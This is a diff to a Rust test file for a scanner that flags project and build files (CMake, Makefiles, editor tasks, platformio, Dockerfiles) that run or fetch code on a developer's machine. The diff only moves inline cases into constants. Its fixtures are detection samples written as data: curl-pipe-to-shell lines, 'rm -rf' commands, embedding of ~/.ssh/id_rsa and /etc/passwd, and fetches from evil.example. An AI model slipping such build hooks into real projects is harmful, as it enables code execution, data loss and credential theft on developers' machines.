@@ -1,3 +1,5 @@
+//! What runs or fetches on the developer's machine is found, and ordinary builds are left alone.
+
 use super::*;
 
 fn found(path: &str, text: &str) -> Vec<(FindingLevel, String)> {
@@ -34,85 +36,94 @@ fn quiet(cases: &[(&str, &str)]) {
 
 const LIST: &str = "CMakeLists.txt";
 
+const CMAKE_THAT_RUNS_AND_FETCHES_1: &[(&str, &str, &str)] = &[
+    (
+        LIST,
+        "execute_process(COMMAND bash fetch.sh)",
+        "runs `bash fetch.sh` when the project is configured",
+    ),
+    (LIST, "EXECUTE_PROCESS(\n  COMMAND curl -sL https://x.example/a -o a\n)", "reaches x.example"),
+    (LIST, "set(RUNNER bash)\nexecute_process(COMMAND ${RUNNER} fetch.sh)", "bash fetch.sh"),
+    (LIST, "execute_process(COMMAND echo a COMMAND sh)", "sh"),
+    (LIST, "add_custom_command(OUTPUT a COMMAND wget b)", "when the project is built"),
+    (LIST, "add_custom_command(TARGET app POST_BUILD COMMAND ${PYTHON} -c \"import os\")", "-c"),
+    (LIST, "add_custom_target(x ALL COMMAND rm -rf /home)", "rm"),
+    (
+        LIST,
+        "include(ExternalProject)\nExternalProject_Add(z URL https://z.example/z.tar.gz)",
+        "z.example",
+    ),
+    (
+        LIST,
+        "FetchContent_Declare(j GIT_REPOSITORY https://github.com/a/j.git GIT_TAG v1)",
+        "downloads from github.com at build time",
+    ),
+    (LIST, "FetchContent_Declare(j GIT_REPOSITORY git@gitlab.com:a/j.git)", "gitlab.com"),
+    (LIST, "CPMAddPackage(\"gh:a/b#1\")", "github.com"),
+    (
+        LIST,
+        "file(DOWNLOAD https://x.example/y.c ${CMAKE_BINARY_DIR}/y.c)",
+        "downloads from x.example",
+    ),
+    (LIST, "set(U https://x.example)\nfile(DOWNLOAD ${U}/y.c y.c)", "x.example"),
+    (LIST, "cmake_language(EVAL CODE \"execute_process(COMMAND sh)\")", "from a text"),
+    (LIST, "cmake_language(CALL execute_process COMMAND bash x)", "bash x"),
+    (
+        LIST,
+        "idf_component_register(SRCS a.c EMBED_FILES \"$ENV{HOME}/.ssh/id_rsa\")",
+        "outside of the project",
+    ),
+    (
+        "main/CMakeLists.txt",
+        "idf_component_register(SRCS a.c EMBED_TXTFILES ../../x.txt)",
+        "outside",
+    ),
+    ("main/CMakeLists.txt", "target_add_binary_data(app \"/etc/passwd\" TEXT)", "/etc/passwd"),
+    (LIST, "file(WRITE $ENV{HOME}/.bashrc \"x\")", "outside of the project"),
+    (LIST, "idf_build_set_property(COMPILE_OPTIONS \"-fplugin=/tmp/p.so\" APPEND)", "compiler"),
+    (LIST, "target_compile_options(a PRIVATE -wrapper /tmp/x)", "compiler"),
+    (LIST, "add_compile_options(-specs=/tmp/x.specs)", "compiler"),
+    ("cmake/x.cmake", "execute_process(COMMAND python -m pip install x)", "pip"),
+    (
+        "components/a/project_include.cmake",
+        "execute_process(COMMAND git clone https://github.com/a/b)",
+        "github.com",
+    ),
+];
+
+const CMAKE_THAT_RUNS_AND_FETCHES_2: &[(&str, &str)] = &[
+    (
+        LIST,
+        "cmake_minimum_required(VERSION 3.16)\ninclude($ENV{IDF_PATH}/tools/cmake/project.cmake)\nproject(a)",
+    ),
+    (
+        "main/CMakeLists.txt",
+        "idf_component_register(SRCS \"main.c\" \"../shared/x.c\" INCLUDE_DIRS \".\" \"include\" REQUIRES driver)",
+    ),
+    (
+        "main/CMakeLists.txt",
+        "idf_component_register(SRCS a.c EMBED_TXTFILES server.pem ../certs/ca.pem)",
+    ),
+    (LIST, "# execute_process(COMMAND bash fetch.sh)\n#[[ file(DOWNLOAD x y) ]]"),
+    (
+        LIST,
+        "set(EXTRA_COMPONENT_DIRS \"components\" $ENV{IDF_PATH}/examples/common_components/led)",
+    ),
+    (
+        LIST,
+        "execute_process(COMMAND git describe --always OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)",
+    ),
+    (LIST, "add_custom_command(OUTPUT b COMMAND ${CMAKE_COMMAND} -E copy a b DEPENDS a VERBATIM)"),
+    (LIST, "file(GLOB SRCS src/*.c)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.h \"x\")"),
+    (LIST, "target_compile_options(${COMPONENT_LIB} PRIVATE -Wall -Wno-unused --specs=nano.specs)"),
+    (LIST, "message(STATUS \"run bash fetch.sh\")"),
+    ("main/CMakeLists.txt", "spiffs_create_partition_image(storage ../data FLASH_IN_PROJECT)"),
+    ("main/CMakeLists.txt", "target_add_binary_data(app \"index.html\" TEXT)"),
+];
+
 #[test]
 fn cmake_that_runs_and_fetches_is_told() {
-    expect(
-        FindingLevel::Stop,
-        &[
-            (
-                LIST,
-                "execute_process(COMMAND bash fetch.sh)",
-                "runs `bash fetch.sh` when the project is configured",
-            ),
-            (
-                LIST,
-                "EXECUTE_PROCESS(\n  COMMAND curl -sL https://x.example/a -o a\n)",
-                "reaches x.example",
-            ),
-            (
-                LIST,
-                "set(RUNNER bash)\nexecute_process(COMMAND ${RUNNER} fetch.sh)",
-                "bash fetch.sh",
-            ),
-            (LIST, "execute_process(COMMAND echo a COMMAND sh)", "sh"),
-            (LIST, "add_custom_command(OUTPUT a COMMAND wget b)", "when the project is built"),
-            (
-                LIST,
-                "add_custom_command(TARGET app POST_BUILD COMMAND ${PYTHON} -c \"import os\")",
-                "-c",
-            ),
-            (LIST, "add_custom_target(x ALL COMMAND rm -rf /home)", "rm"),
-            (
-                LIST,
-                "include(ExternalProject)\nExternalProject_Add(z URL https://z.example/z.tar.gz)",
-                "z.example",
-            ),
-            (
-                LIST,
-                "FetchContent_Declare(j GIT_REPOSITORY https://github.com/a/j.git GIT_TAG v1)",
-                "downloads from github.com at build time",
-            ),
-            (LIST, "FetchContent_Declare(j GIT_REPOSITORY git@gitlab.com:a/j.git)", "gitlab.com"),
-            (LIST, "CPMAddPackage(\"gh:a/b#1\")", "github.com"),
-            (
-                LIST,
-                "file(DOWNLOAD https://x.example/y.c ${CMAKE_BINARY_DIR}/y.c)",
-                "downloads from x.example",
-            ),
-            (LIST, "set(U https://x.example)\nfile(DOWNLOAD ${U}/y.c y.c)", "x.example"),
-            (LIST, "cmake_language(EVAL CODE \"execute_process(COMMAND sh)\")", "from a text"),
-            (LIST, "cmake_language(CALL execute_process COMMAND bash x)", "bash x"),
-            (
-                LIST,
-                "idf_component_register(SRCS a.c EMBED_FILES \"$ENV{HOME}/.ssh/id_rsa\")",
-                "outside of the project",
-            ),
-            (
-                "main/CMakeLists.txt",
-                "idf_component_register(SRCS a.c EMBED_TXTFILES ../../x.txt)",
-                "outside",
-            ),
-            (
-                "main/CMakeLists.txt",
-                "target_add_binary_data(app \"/etc/passwd\" TEXT)",
-                "/etc/passwd",
-            ),
-            (LIST, "file(WRITE $ENV{HOME}/.bashrc \"x\")", "outside of the project"),
-            (
-                LIST,
-                "idf_build_set_property(COMPILE_OPTIONS \"-fplugin=/tmp/p.so\" APPEND)",
-                "compiler",
-            ),
-            (LIST, "target_compile_options(a PRIVATE -wrapper /tmp/x)", "compiler"),
-            (LIST, "add_compile_options(-specs=/tmp/x.specs)", "compiler"),
-            ("cmake/x.cmake", "execute_process(COMMAND python -m pip install x)", "pip"),
-            (
-                "components/a/project_include.cmake",
-                "execute_process(COMMAND git clone https://github.com/a/b)",
-                "github.com",
-            ),
-        ],
-    );
+    expect(FindingLevel::Stop, CMAKE_THAT_RUNS_AND_FETCHES_1);
     expect(
         FindingLevel::Warning,
         &[
@@ -126,41 +137,7 @@ fn cmake_that_runs_and_fetches_is_told() {
             (LIST, "file(REMOVE_RECURSE ${CMAKE_SOURCE_DIR}/main)", "deletes"),
         ],
     );
-    quiet(&[
-        (
-            LIST,
-            "cmake_minimum_required(VERSION 3.16)\ninclude($ENV{IDF_PATH}/tools/cmake/project.cmake)\nproject(a)",
-        ),
-        (
-            "main/CMakeLists.txt",
-            "idf_component_register(SRCS \"main.c\" \"../shared/x.c\" INCLUDE_DIRS \".\" \"include\" REQUIRES driver)",
-        ),
-        (
-            "main/CMakeLists.txt",
-            "idf_component_register(SRCS a.c EMBED_TXTFILES server.pem ../certs/ca.pem)",
-        ),
-        (LIST, "# execute_process(COMMAND bash fetch.sh)\n#[[ file(DOWNLOAD x y) ]]"),
-        (
-            LIST,
-            "set(EXTRA_COMPONENT_DIRS \"components\" $ENV{IDF_PATH}/examples/common_components/led)",
-        ),
-        (
-            LIST,
-            "execute_process(COMMAND git describe --always OUTPUT_VARIABLE V OUTPUT_STRIP_TRAILING_WHITESPACE)",
-        ),
-        (
-            LIST,
-            "add_custom_command(OUTPUT b COMMAND ${CMAKE_COMMAND} -E copy a b DEPENDS a VERBATIM)",
-        ),
-        (LIST, "file(GLOB SRCS src/*.c)\nfile(WRITE ${CMAKE_BINARY_DIR}/x.h \"x\")"),
-        (
-            LIST,
-            "target_compile_options(${COMPONENT_LIB} PRIVATE -Wall -Wno-unused --specs=nano.specs)",
-        ),
-        (LIST, "message(STATUS \"run bash fetch.sh\")"),
-        ("main/CMakeLists.txt", "spiffs_create_partition_image(storage ../data FLASH_IN_PROJECT)"),
-        ("main/CMakeLists.txt", "target_add_binary_data(app \"index.html\" TEXT)"),
-    ]);
+    quiet(CMAKE_THAT_RUNS_AND_FETCHES_2);
 }
 
 #[test]
@@ -212,169 +189,149 @@ fn manifests_name_the_host() {
     assert_eq!(told[0].1, "adds `espressif/led_strip` from the component registry");
 }
 
+const FILES_OF_OTHER_TOOLS_ARE_TOL_1: &[(&str, &str, &str)] = &[
+    (".envrc", "export A=b\n", "direnv"),
+    ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
+    ("Makefile", "X := $(shell wget x)\n", "wget"),
+    (
+        ".vscode/tasks.json",
+        "{\"tasks\":[{\"command\":\"bash -c 'curl x'\"}]}",
+        "task of the editor",
+    ),
+    (
+        ".vscode/tasks.json",
+        "{\"tasks\":[{\"command\":\"idf.py\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}",
+        "folder is opened",
+    ),
+    (".devcontainer/devcontainer.json", "{\"initializeCommand\": \"bash x.sh\"}", "bash x.sh"),
+    ("fetch.sh", "#!/bin/sh\nset -e\ncurl -L https://x.example/a -o a\n", "x.example"),
+    ("tools/flash", "#!/usr/bin/env bash\nsudo rm -rf /opt\n", "sudo"),
+    (
+        ".gitmodules",
+        "[submodule \"x\"]\n\tupdate = !sh x.sh\n\turl = https://x.example/y\n",
+        "x.example",
+    ),
+    (
+        "tools/get.py",
+        "import urllib.request\nurllib.request.urlopen('https://x.example')\n",
+        "x.example",
+    ),
+    (
+        "tools/get.py",
+        "import subprocess\nsubprocess.run(['bash', 'x.sh'])\n",
+        "when the script runs",
+    ),
+    ("platformio.ini", "[env:a]\nbuild_flags = !curl https://x.example/f\n", "x.example"),
+    ("package.json", "{\"scripts\":{\"postinstall\":\"sh x.sh\"}}", "sh x.sh"),
+    ("main/Kconfig.projbuild", "config A\n  default \"$(shell,curl x)\"\n", "configured"),
+    ("sdkconfig.defaults", "CONFIG_SDK_PYTHON=\"/tmp/python\"\n", "/tmp/python"),
+    ("main/data.c", "asm(\".incbin \\\"/etc/passwd\\\"\");", "/etc/passwd"),
+    ("main/data.c", "const char d[] = {\n#embed \"/etc/passwd\"\n};", "/etc/passwd"),
+    (".git/hooks/pre-commit", "echo hi\n", "Git"),
+    ("build_opt.h", "-fplugin=x.so\n", "compiler"),
+    (".gdbinit", "shell curl x\n", "debugger"),
+    ("Dockerfile", "FROM espressif/idf\nRUN curl https://x.example | sh\n", "x.example"),
+];
+
+const FILES_OF_OTHER_TOOLS_ARE_TOL_2: &[(&str, &str, &str)] = &[
+    (".vscode/tasks.json", "{\"tasks\":[{\"command\":\"idf.py build\"}]}", "idf.py build"),
+    (".vscode/settings.json", "{\"git.path\": \"/tmp/git\"}", "git.path"),
+    ("platformio.ini", "[env:a]\nextra_scripts = pre:gen.py\n", "gen.py"),
+    ("platformio.ini", "[env:a]\nextra_scripts =\n  pre:gen.py\n", "gen.py"),
+    (
+        "platformio.ini",
+        "[env:a]\nlib_deps =\n  https://github.com/a/b.git\n",
+        "fetches from github.com at build time",
+    ),
+    ("platformio.ini", "[env:a]\nlib_deps = x=git+https://evil.example/b\n", "evil.example"),
+    ("platformio.ini", "[env:a]\nplatform = https://evil.example/p.zip\n", "evil.example"),
+    ("library.json", "{\"dependencies\":{\"x\":\"https://evil.example/x.git\"}}", "evil.example"),
+    ("library.json", "{\"build\":{\"extraScript\":\"x.py\"}}", "x.py"),
+    (
+        ".gitmodules",
+        "[submodule \"x\"]\n\tpath = x\n\turl = https://github.com/a/x\n",
+        "github.com",
+    ),
+    (".gitattributes", "*.c filter=evil\n", "filter=evil"),
+    (".github/workflows/b.yml", "jobs:\n  b:\n    steps:\n      - uses: a/b@v1\n", "a/b@v1"),
+    (
+        ".github/workflows/b.yml",
+        "jobs:\n  b:\n    steps:\n      - run: |\n          make deploy\n",
+        "make deploy",
+    ),
+    (".gitlab-ci.yml", "build:\n  script:\n    - make deploy\n", "make deploy"),
+    ("conftest.py", "import os\n", "by itself"),
+    ("idf_ext.py", "def action_extensions(a, b):\n    return {}\n", "idf.py"),
+    (".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/a/b\n", "github.com"),
+    ("requirements.txt", "git+https://evil.example/x.git\n", "evil.example"),
+    (
+        "sketch.yaml",
+        "profiles:\n  a:\n    platforms:\n      - platform: x\n        platform_index_url: https://evil.example/i.json\n",
+        "evil.example",
+    ),
+    ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/a/x\" }\n", "github.com"),
+    ("build.rs", "fn main() { std::process::Command::new(\"sh\"); }", "Command"),
+    ("main/main.c", "#include \"/home/u/x.h\"\n", "/home/u/x.h"),
+    ("tools/run.sh", "#!/bin/sh\n./gen_tables\n", "gen_tables"),
+    ("main/x.ld", "INCLUDE /tmp/x.ld\n", "/tmp/x.ld"),
+];
+
+const FILES_OF_OTHER_TOOLS_ARE_TOL_3: &[(&str, &str)] = &[
+    ("Makefile", "PROJECT_NAME := app\ninclude $(IDF_PATH)/make/project.mk\n"),
+    ("Makefile", "build:\n\tidf.py build\nflash: build\n\tidf.py -p $(PORT) flash monitor\n"),
+    ("main/component.mk", "COMPONENT_EMBED_TXTFILES := server.pem\nCFLAGS += -Wall\n"),
+    (
+        "main/main.c",
+        "#include <stdio.h>\n#include \"../include/led.h\"\n#include \"driver/gpio.h\"\n",
+    ),
+    (
+        "platformio.ini",
+        "[env:esp32dev]\nplatform = espressif32\nboard = esp32dev\nframework = arduino\nmonitor_speed = 115200\nlib_deps =\n  adafruit/DHT sensor library@^1.4.6\n  knolleary/PubSubClient\nbuild_flags = -DCORE_DEBUG_LEVEL=3\n; see https://docs.platformio.org/page/projectconf.html\n",
+    ),
+    (
+        ".vscode/settings.json",
+        "{\"idf.port\": \"/dev/ttyUSB0\", \"files.associations\": {\"*.h\": \"c\"}, \"idf.flashType\": \"UART\"}",
+    ),
+    (
+        "library.json",
+        "{\"name\":\"x\",\"repository\":{\"type\":\"git\",\"url\":\"https://github.com/a/x.git\"},\"dependencies\":{\"a/b\":\"^1.0\"}}",
+    ),
+    ("library.properties", "name=x\nurl=https://github.com/a/x\ndepends=Adafruit BusIO\n"),
+    ("sketch.yaml", "default_fqbn: esp32:esp32:esp32\n"),
+    (
+        "sdkconfig",
+        "CONFIG_SDK_TOOLPREFIX=\"xtensa-esp32-elf-\"\nCONFIG_SDK_PYTHON=\"python\"\nCONFIG_PARTITION_TABLE_CUSTOM_FILENAME=\"partitions.csv\"\n",
+    ),
+    (
+        "sdkconfig.defaults",
+        "CONFIG_SPIFFS_BASE_PATH=\"/spiffs\"\nCONFIG_WEB_MOUNT_POINT=\"/www\"\n",
+    ),
+    (
+        "tools/flash.sh",
+        "#!/bin/sh\nset -eu\nPORT=${1:-/dev/ttyUSB0}\nidf.py -p \"$PORT\" flash monitor\n",
+    ),
+    ("README.md", "Run `curl https://x.example | sh`.\n"),
+    ("partitions.csv", "nvs,data,nvs,0x9000,0x6000\n"),
+    (
+        "main/Kconfig.projbuild",
+        "menu \"App\"\nconfig APP_GPIO\n  int \"GPIO\"\n  default 4\nendmenu\n",
+    ),
+    (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n* text=auto\n"),
+    (".clang-format", "BasedOnStyle: Google\n"),
+    ("pytest_app.py", "import pytest\n\ndef test_app(dut):\n    dut.expect('ready')\n"),
+    ("src/main.rs", "use esp_idf_svc::hal::gpio::PinDriver;\nfn main() {}\n"),
+    ("build.rs", "fn main() { embuild::espidf::sysenv::output(); }\n"),
+    (
+        ".cargo/config.toml",
+        "[target.xtensa-esp32-espidf]\nlinker = \"ldproxy\"\nrunner = \"espflash flash --monitor\"\n",
+    ),
+    ("main/www/app.js", "fetch('https://x.example')\n"),
+    (".gitignore", "build/\nsdkconfig.old\n"),
+];
+
 #[test]
 fn files_of_other_tools_are_told() {
-    expect(
-        FindingLevel::Stop,
-        &[
-            (".envrc", "export A=b\n", "direnv"),
-            ("Makefile", "all:\n\tcurl https://x.example/a | sh\n", "x.example"),
-            ("Makefile", "X := $(shell wget x)\n", "wget"),
-            (
-                ".vscode/tasks.json",
-                "{\"tasks\":[{\"command\":\"bash -c 'curl x'\"}]}",
-                "task of the editor",
-            ),
-            (
-                ".vscode/tasks.json",
-                "{\"tasks\":[{\"command\":\"idf.py\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}",
-                "folder is opened",
-            ),
-            (
-                ".devcontainer/devcontainer.json",
-                "{\"initializeCommand\": \"bash x.sh\"}",
-                "bash x.sh",
-            ),
-            ("fetch.sh", "#!/bin/sh\nset -e\ncurl -L https://x.example/a -o a\n", "x.example"),
-            ("tools/flash", "#!/usr/bin/env bash\nsudo rm -rf /opt\n", "sudo"),
-            (
-                ".gitmodules",
-                "[submodule \"x\"]\n\tupdate = !sh x.sh\n\turl = https://x.example/y\n",
-                "x.example",
-            ),
-            (
-                "tools/get.py",
-                "import urllib.request\nurllib.request.urlopen('https://x.example')\n",
-                "x.example",
-            ),
-            (
-                "tools/get.py",
-                "import subprocess\nsubprocess.run(['bash', 'x.sh'])\n",
-                "when the script runs",
-            ),
-            ("platformio.ini", "[env:a]\nbuild_flags = !curl https://x.example/f\n", "x.example"),
-            ("package.json", "{\"scripts\":{\"postinstall\":\"sh x.sh\"}}", "sh x.sh"),
-            ("main/Kconfig.projbuild", "config A\n  default \"$(shell,curl x)\"\n", "configured"),
-            ("sdkconfig.defaults", "CONFIG_SDK_PYTHON=\"/tmp/python\"\n", "/tmp/python"),
-            ("main/data.c", "asm(\".incbin \\\"/etc/passwd\\\"\");", "/etc/passwd"),
-            ("main/data.c", "const char d[] = {\n#embed \"/etc/passwd\"\n};", "/etc/passwd"),
-            (".git/hooks/pre-commit", "echo hi\n", "Git"),
-            ("build_opt.h", "-fplugin=x.so\n", "compiler"),
-            (".gdbinit", "shell curl x\n", "debugger"),
-            ("Dockerfile", "FROM espressif/idf\nRUN curl https://x.example | sh\n", "x.example"),
-        ],
-    );
-    expect(
-        FindingLevel::Warning,
-        &[
-            (".vscode/tasks.json", "{\"tasks\":[{\"command\":\"idf.py build\"}]}", "idf.py build"),
-            (".vscode/settings.json", "{\"git.path\": \"/tmp/git\"}", "git.path"),
-            ("platformio.ini", "[env:a]\nextra_scripts = pre:gen.py\n", "gen.py"),
-            ("platformio.ini", "[env:a]\nextra_scripts =\n  pre:gen.py\n", "gen.py"),
-            (
-                "platformio.ini",
-                "[env:a]\nlib_deps =\n  https://github.com/a/b.git\n",
-                "fetches from github.com at build time",
-            ),
-            (
-                "platformio.ini",
-                "[env:a]\nlib_deps = x=git+https://evil.example/b\n",
-                "evil.example",
-            ),
-            ("platformio.ini", "[env:a]\nplatform = https://evil.example/p.zip\n", "evil.example"),
-            (
-                "library.json",
-                "{\"dependencies\":{\"x\":\"https://evil.example/x.git\"}}",
-                "evil.example",
-            ),
-            ("library.json", "{\"build\":{\"extraScript\":\"x.py\"}}", "x.py"),
-            (
-                ".gitmodules",
-                "[submodule \"x\"]\n\tpath = x\n\turl = https://github.com/a/x\n",
-                "github.com",
-            ),
-            (".gitattributes", "*.c filter=evil\n", "filter=evil"),
-            (
-                ".github/workflows/b.yml",
-                "jobs:\n  b:\n    steps:\n      - uses: a/b@v1\n",
-                "a/b@v1",
-            ),
-            (
-                ".github/workflows/b.yml",
-                "jobs:\n  b:\n    steps:\n      - run: |\n          make deploy\n",
-                "make deploy",
-            ),
-            (".gitlab-ci.yml", "build:\n  script:\n    - make deploy\n", "make deploy"),
-            ("conftest.py", "import os\n", "by itself"),
-            ("idf_ext.py", "def action_extensions(a, b):\n    return {}\n", "idf.py"),
-            (".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/a/b\n", "github.com"),
-            ("requirements.txt", "git+https://evil.example/x.git\n", "evil.example"),
-            (
-                "sketch.yaml",
-                "profiles:\n  a:\n    platforms:\n      - platform: x\n        platform_index_url: https://evil.example/i.json\n",
-                "evil.example",
-            ),
-            (
-                "Cargo.toml",
-                "[dependencies]\nx = { git = \"https://github.com/a/x\" }\n",
-                "github.com",
-            ),
-            ("build.rs", "fn main() { std::process::Command::new(\"sh\"); }", "Command"),
-            ("main/main.c", "#include \"/home/u/x.h\"\n", "/home/u/x.h"),
-            ("tools/run.sh", "#!/bin/sh\n./gen_tables\n", "gen_tables"),
-            ("main/x.ld", "INCLUDE /tmp/x.ld\n", "/tmp/x.ld"),
-        ],
-    );
-    quiet(&[
-        ("Makefile", "PROJECT_NAME := app\ninclude $(IDF_PATH)/make/project.mk\n"),
-        ("Makefile", "build:\n\tidf.py build\nflash: build\n\tidf.py -p $(PORT) flash monitor\n"),
-        ("main/component.mk", "COMPONENT_EMBED_TXTFILES := server.pem\nCFLAGS += -Wall\n"),
-        (
-            "main/main.c",
-            "#include <stdio.h>\n#include \"../include/led.h\"\n#include \"driver/gpio.h\"\n",
-        ),
-        (
-            "platformio.ini",
-            "[env:esp32dev]\nplatform = espressif32\nboard = esp32dev\nframework = arduino\nmonitor_speed = 115200\nlib_deps =\n  adafruit/DHT sensor library@^1.4.6\n  knolleary/PubSubClient\nbuild_flags = -DCORE_DEBUG_LEVEL=3\n; see https://docs.platformio.org/page/projectconf.html\n",
-        ),
-        (
-            ".vscode/settings.json",
-            "{\"idf.port\": \"/dev/ttyUSB0\", \"files.associations\": {\"*.h\": \"c\"}, \"idf.flashType\": \"UART\"}",
-        ),
-        (
-            "library.json",
-            "{\"name\":\"x\",\"repository\":{\"type\":\"git\",\"url\":\"https://github.com/a/x.git\"},\"dependencies\":{\"a/b\":\"^1.0\"}}",
-        ),
-        ("library.properties", "name=x\nurl=https://github.com/a/x\ndepends=Adafruit BusIO\n"),
-        ("sketch.yaml", "default_fqbn: esp32:esp32:esp32\n"),
-        (
-            "sdkconfig",
-            "CONFIG_SDK_TOOLPREFIX=\"xtensa-esp32-elf-\"\nCONFIG_SDK_PYTHON=\"python\"\nCONFIG_PARTITION_TABLE_CUSTOM_FILENAME=\"partitions.csv\"\n",
-        ),
-        (
-            "sdkconfig.defaults",
-            "CONFIG_SPIFFS_BASE_PATH=\"/spiffs\"\nCONFIG_WEB_MOUNT_POINT=\"/www\"\n",
-        ),
-        (
-            "tools/flash.sh",
-            "#!/bin/sh\nset -eu\nPORT=${1:-/dev/ttyUSB0}\nidf.py -p \"$PORT\" flash monitor\n",
-        ),
-        ("README.md", "Run `curl https://x.example | sh`.\n"),
-        ("partitions.csv", "nvs,data,nvs,0x9000,0x6000\n"),
-        (
-            "main/Kconfig.projbuild",
-            "menu \"App\"\nconfig APP_GPIO\n  int \"GPIO\"\n  default 4\nendmenu\n",
-        ),
-        (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n* text=auto\n"),
-        (".clang-format", "BasedOnStyle: Google\n"),
-        ("pytest_app.py", "import pytest\n\ndef test_app(dut):\n    dut.expect('ready')\n"),
-        ("src/main.rs", "use esp_idf_svc::hal::gpio::PinDriver;\nfn main() {}\n"),
-        ("build.rs", "fn main() { embuild::espidf::sysenv::output(); }\n"),
-        (
-            ".cargo/config.toml",
-            "[target.xtensa-esp32-espidf]\nlinker = \"ldproxy\"\nrunner = \"espflash flash --monitor\"\n",
-        ),
-        ("main/www/app.js", "fetch('https://x.example')\n"),
-        (".gitignore", "build/\nsdkconfig.old\n"),
-    ]);
+    expect(FindingLevel::Stop, FILES_OF_OTHER_TOOLS_ARE_TOL_1);
+    expect(FindingLevel::Warning, FILES_OF_OTHER_TOOLS_ARE_TOL_2);
+    quiet(FILES_OF_OTHER_TOOLS_ARE_TOL_3);
 }
